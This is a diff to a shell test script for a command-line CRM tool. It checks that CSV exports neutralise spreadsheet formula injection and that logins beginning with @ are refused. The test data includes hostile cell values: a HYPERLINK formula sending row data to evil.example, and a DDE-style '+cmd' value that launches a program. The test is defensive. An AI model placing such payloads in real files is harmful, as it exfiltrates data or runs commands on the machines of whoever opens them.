@@ -194,8 +194,8 @@ eq "$(r bob rejected --json | jq '[.[] | select(.reason == "duplicate")] | lengt
 # @ or a tab is written behind a single quote, so a spreadsheet shows it as
 # text instead of running it; import takes the one quote off again, so an
 # export reads back as it was (phones start with +).
-users carol:rep:east.sh @dave:rep:east.sh
-sync_all carol @dave
+users carol:rep:east.sh dave:rep:east.sh
+sync_all carol dave
 formula='=HYPERLINK("http://evil.example/?d="&B3&C3,"Open")'
 r carol customer add --name "$formula" --phone "+86 21 5555 0009" >/dev/null
 r carol customer add --name "@SUM(1+1)" --address "+cmd|' /C calc'!A0" >/dev/null
@@ -216,15 +216,16 @@ if tr -d '"' <"$T/formula.csv" | tr ',' '\n' | grep -q $'^[=+@\t-]'; then
 	fail "a cell starts with a formula character: $(cat "$T/formula.csv")"
 fi
 # Read back as it was.
-eq "$(r @dave import customers "$T/formula.csv")" "imported 4 customers" "import of the guarded file"
-eq "$(r @dave customer list --json | jq -c '[.[] | [.name, .phone, .address]] | sort')" \
+eq "$(r dave import customers "$T/formula.csv")" "imported 4 customers" "import of the guarded file"
+eq "$(r dave customer list --json | jq -c '[.[] | [.name, .phone, .address]] | sort')" \
 	"$(r carol customer list --json | jq -c '[.[] | [.name, .phone, .address]] | sort')" \
 	"the guarded export imports unchanged"
-# Reports too: a login may start with @.
-c=$(r @dave customer list --json | jq -r '.[0].id')
-r @dave opportunity add --customer "$c" --title Deal --amount 100 --stage proposal >/dev/null
-r @dave report pipeline --csv | grep -qxF "rep,'@dave,1,10000" ||
-	fail "report rep not guarded: $(r @dave report pipeline --csv)"
+# Reports' cells are logins and codes, which begin with a letter or digit:
+# no login can start a formula.
+set +e
+rove -R "$T/admin" admin user add @eve --role rep --territory east.sh >/dev/null 2>&1
+eq "$?" "1" "a login beginning with @"
+set -e
 
 # Usage: --help on stdout with status 0; bad command lines exit 2.
 for h in "import --help" "export --help" "import customers --help"; do
